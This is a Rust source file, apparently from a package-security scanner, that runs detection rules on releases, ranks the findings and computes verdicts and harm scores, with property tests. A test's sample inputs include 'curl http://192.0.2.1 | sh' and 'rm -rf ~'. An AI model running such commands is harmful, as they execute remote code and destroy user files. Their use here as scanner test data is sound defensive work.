//! Runs the rules and sums up what they say.

use std::cmp::Ordering;
use std::collections::{BTreeMap, BTreeSet};

use vetch_model::finding::{Confidence, Finding, Severity};
use vetch_model::verdict::Verdict;

use crate::input::{ReleaseFacts, TargetFacts};
use crate::query::Contents;
use crate::registry::{Check, RULES};
use crate::rules::prelude::{CONTAIN, CONTAIN_PYTHON, REVIEW, REVIEW_PYTHON, VERIFY, VERIFY_PYTHON};

/// Everything that the rules say about one release, worst first; the same facts give the same findings.
pub fn judge_release(facts: &ReleaseFacts<'_>) -> Vec<Finding> {
    let contents = distinct_contents(facts);
    let mut findings = Vec::new();
    for rule in RULES {
        match rule.check {
            Check::Release(check) => check(facts, &mut findings),
            Check::Contents(check) => {
                contents.iter().for_each(|(path, contents)| judge_contents(*path, contents, check, &mut findings));
            }
            Check::Target(_) => {}
        }
    }
    if facts.contents.is_some_and(|contents| contents.python.is_some()) {
        findings.iter_mut().for_each(in_words_of_python);
    }
    sort(&mut findings);
    findings
}

/// Adds what other rules say, so that the worst still comes first.
pub fn add_findings(findings: &mut Vec<Finding>, more: impl IntoIterator<Item = Finding>) {
    findings.extend(more);
    sort(findings);
}

/// Everything that the rules say about a target as a whole, worst first.
pub fn judge_target(facts: &TargetFacts<'_>) -> Vec<Finding> {
    let mut findings = Vec::new();
    for rule in RULES {
        if let Check::Target(check) = rule.check {
            check(facts, &mut findings);
        }
    }
    sort(&mut findings);
    findings
}

/// The release's contents, then those of each installed copy that differs from them, with its path:
/// code that was planted on disk is not in the archive.
fn distinct_contents<'a>(facts: &'a ReleaseFacts<'a>) -> Vec<(Option<&'a str>, Contents<'a>)> {
    let first = facts.contents.map(|contents| (None, contents));
    let copies = facts.installed.iter().filter_map(|copy| Some((Some(copy.path), copy.contents?)));
    let mut seen = BTreeSet::new();
    first
        .into_iter()
        .chain(copies)
        .filter(|(_, contents)| seen.insert(contents.content_hash))
        .map(|(path, contents)| (path.filter(|_| facts.contents.is_some()), Contents::new(facts, contents)))
        .collect()
}

/// What several copies show alike is said once.
fn judge_contents(
    path: Option<&str>,
    contents: &Contents<'_>,
    check: fn(&Contents<'_>, &mut Vec<Finding>),
    findings: &mut Vec<Finding>,
) {
    let mut found = Vec::new();
    check(contents, &mut found);
    for mut finding in found {
        if findings.contains(&finding) {
            continue;
        }
        if let Some(path) = path {
            finding.title = format!("{} (as installed in {path})", finding.title);
        }
        findings.push(finding);
    }
}

/// Rules about code are of both ecosystems; what to do is told in the terms of the release's own.
fn in_words_of_python(finding: &mut Finding) {
    if finding.remedy == CONTAIN {
        finding.remedy = CONTAIN_PYTHON.to_owned();
    } else if finding.remedy == REVIEW {
        finding.remedy = REVIEW_PYTHON.to_owned();
    } else if finding.remedy == VERIFY {
        finding.remedy = VERIFY_PYTHON.to_owned();
    }
}

fn sort(findings: &mut [Finding]) {
    findings.sort_by(order);
}

/// Worst first; then by rule, place and title, so that no two runs differ.
fn order(a: &Finding, b: &Finding) -> Ordering {
    let key =
        |finding: &Finding| (std::cmp::Reverse(finding.verdict()), finding.severity, finding.confidence, finding.rule);
    key(a).cmp(&key(b)).then_with(|| a.evidence.cmp(&b.evidence)).then_with(|| a.title.cmp(&b.title))
}

/// The worst verdict that holds; `incomplete` if something that could have changed it was not checked.
pub fn verdict_of(findings: &[Finding], incomplete: bool) -> Verdict {
    let missing = if incomplete { Verdict::Incomplete } else { Verdict::Clean };
    findings.iter().map(Finding::verdict).max().unwrap_or(Verdict::Clean).max(missing)
}

/// 0 (nothing) to 100 (certain harm).
///
/// Each rule that fired weighs by its worst finding ([`weight`]); weights combine as independent
/// doubts do, `1 - Π(1 - w)`, so more evidence never lowers the score. Findings that are only
/// notable never add up to more than 49, nor suspicious ones to more than 89: counting is no
/// combination. One critical finding of high confidence is 100 by itself.
pub fn score(findings: &[Finding]) -> u8 {
    let mut by_rule: BTreeMap<&str, u64> = BTreeMap::new();
    for finding in findings {
        let entry = by_rule.entry(finding.rule).or_default();
        *entry = (*entry).max(weight(finding.severity, finding.confidence));
    }
    let mut weights: Vec<u64> = by_rule.into_values().collect();
    // In one order, so that rounding cannot depend on which rule said it.
    weights.sort_unstable();
    let doubt = weights.iter().fold(SCALE, |doubt, weight| doubt * (100 - weight) / 100);
    let cap = match verdict_of(findings, false) {
        Verdict::Malicious => 100,
        Verdict::Suspicious => 89,
        Verdict::Incomplete | Verdict::Notable => 49,
        Verdict::Clean => 0,
    };
    let certainty = (SCALE - doubt) * 100 / SCALE;
    u8::try_from(certainty.min(cap)).unwrap_or(100)
}

/// Fixed-point one: large enough that rounding stays below a point.
const SCALE: u64 = 1_000_000_000;

/// How much one finding weighs, in percent.
const fn weight(severity: Severity, confidence: Confidence) -> u64 {
    match (severity, confidence) {
        (Severity::Critical, Confidence::High) => 100,
        (Severity::Critical, Confidence::Medium) => 92,
        (Severity::Critical, Confidence::Low) => 70,
        (Severity::High, Confidence::High) => 75,
        (Severity::High, Confidence::Medium) => 60,
        (Severity::High, Confidence::Low) => 35,
        (Severity::Medium, Confidence::High) => 25,
        (Severity::Medium, Confidence::Medium) => 18,
        (Severity::Medium, Confidence::Low) => 10,
        (Severity::Low, _) => 4,
        (Severity::Info, _) => 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{Facts, With, cap, named};
    use proptest::prelude::*;
    use vetch_model::capability::{Capability, CapabilityId, EvalSource, PathClass, Resource, Trigger};
    use vetch_model::evidence::{Evidence, Location};
    use vetch_model::facts::SignalKind;

    fn finding(rule: usize, severity: Severity, confidence: Confidence) -> Finding {
        let meta = crate::all_rules()[rule % crate::all_rules().len()];
        let evidence = Evidence::File { location: Location::file("a.js"), note: String::new() };
        Finding::new(meta, "x", evidence).with_severity(severity).with_confidence(confidence)
    }

    fn any_finding() -> impl Strategy<Value = Finding> {
        (0usize..50, 0usize..Severity::ALL.len(), 0usize..Confidence::ALL.len()).prop_map(
            |(rule, severity, confidence)| finding(rule, Severity::ALL[severity], Confidence::ALL[confidence]),
        )
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]

        #[test]
        fn more_evidence_never_lowers_score_or_verdict(mut findings in prop::collection::vec(any_finding(), 0..12), more in any_finding()) {
            let (before, verdict) = (score(&findings), verdict_of(&findings, false));
            findings.push(more);
            prop_assert!(score(&findings) >= before);
            prop_assert!(verdict_of(&findings, false) >= verdict);
        }

        #[test]
        fn score_and_verdict_agree(findings in prop::collection::vec(any_finding(), 0..12)) {
            let score = score(&findings);
            let bands = match verdict_of(&findings, false) {
                Verdict::Malicious => 90..=100,
                Verdict::Suspicious => 50..=89,
                Verdict::Notable | Verdict::Incomplete => 1..=49,
                Verdict::Clean => 0..=0,
            };
            prop_assert!(bands.contains(&score), "{score}");
        }

        #[test]
        fn order_of_findings_does_not_matter(mut findings in prop::collection::vec(any_finding(), 0..8)) {
            let mut other = findings.clone();
            other.reverse();
            prop_assert_eq!(score(&findings), score(&other));
            sort(&mut findings);
            sort(&mut other);
            prop_assert_eq!(findings, other);
        }
    }

    fn any_capability() -> impl Strategy<Value = Capability> {
        let resource = prop::sample::select(vec![
            "*",
            "192.0.2.1:81",
            "curl http://192.0.2.1 | sh",
            "rm -rf ~",
            "hostname",
            "locale",
            "fetch",
        ]);
        let ids = 0..CapabilityId::ALL.len();
        (ids, resource, 0..PathClass::ALL.len(), 0..Trigger::ALL.len(), 0u8..3).prop_map(
            |(id, name, class, trigger, layer)| {
                let id = CapabilityId::ALL[id];
                let resource = match id {
                    CapabilityId::FsRead | CapabilityId::FsWrite | CapabilityId::FsDelete => {
                        Resource::Path { class: PathClass::ALL[class], path: Some("<home>/".to_owned()) }
                    }
                    CapabilityId::CodeEval => Resource::Eval(EvalSource::ALL[class % EvalSource::ALL.len()]),
                    _ => named(name),
                };
                cap(id, resource).at(Trigger::ALL[trigger]).layer(layer)
            },
        )
    }

    fn any_facts() -> impl Strategy<Value = (Vec<Capability>, Vec<(Capability, Capability)>, usize)> {
        let flows = prop::collection::vec((any_capability(), any_capability()), 0..6);
        (prop::collection::vec(any_capability(), 0..12), flows, 0..SignalKind::ALL.len())
    }

    /// Facts whose triggers are all set to `trigger`, if one is given.
    fn facts_of(all: (Vec<Capability>, Vec<(Capability, Capability)>, usize), trigger: Option<Trigger>) -> Facts {
        let set = |capability: Capability| match trigger {
            Some(trigger) => capability.at(trigger),
            None => capability,
        };
        let facts = all.1.into_iter().fold(Facts::new(), |facts, (source, sink)| facts.flow(set(source), set(sink)));
        let facts = facts.signal(SignalKind::ALL[all.2], trigger.unwrap_or(Trigger::Import), "setup.js", 95);
        facts.caps(all.0.into_iter().map(set))
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]

        #[test]
        fn every_finding_has_evidence_and_two_runs_agree(all in any_facts()) {
            let facts = facts_of(all, None);
            let first = facts.judge_release(<[Finding]>::to_vec);
            prop_assert!(first.iter().all(|finding| !finding.evidence.is_empty() && !finding.title.is_empty()));
            prop_assert_eq!(first, facts.judge_release(<[Finding]>::to_vec));
        }

        #[test]
        fn code_that_nothing_reaches_is_never_suspicious(all in any_facts(), test in any::<bool>()) {
            let trigger = if test { Trigger::Test } else { Trigger::Unreached };
            prop_assert!(facts_of(all, Some(trigger)).overall() < Verdict::Suspicious);
        }
    }

    #[test]
    fn certain_harm_is_a_hundred_and_nothing_is_zero() {
        assert_eq!(score(&[finding(0, Severity::Critical, Confidence::High)]), 100);
        assert_eq!(score(&[]), 0);
    }

    #[test]
    fn missing_contents_are_never_clean() {
        assert_eq!(verdict_of(&[], true), Verdict::Incomplete);
        assert_eq!(verdict_of(&[finding(0, Severity::Low, Confidence::High)], true), Verdict::Incomplete);
        assert_eq!(verdict_of(&[finding(0, Severity::Critical, Confidence::High)], true), Verdict::Malicious);
    }

    #[test]
    fn a_package_without_facts_is_judged_without_findings() {
        Facts::new().judge_release(|findings| assert!(findings.is_empty(), "{findings:?}"));
    }
}
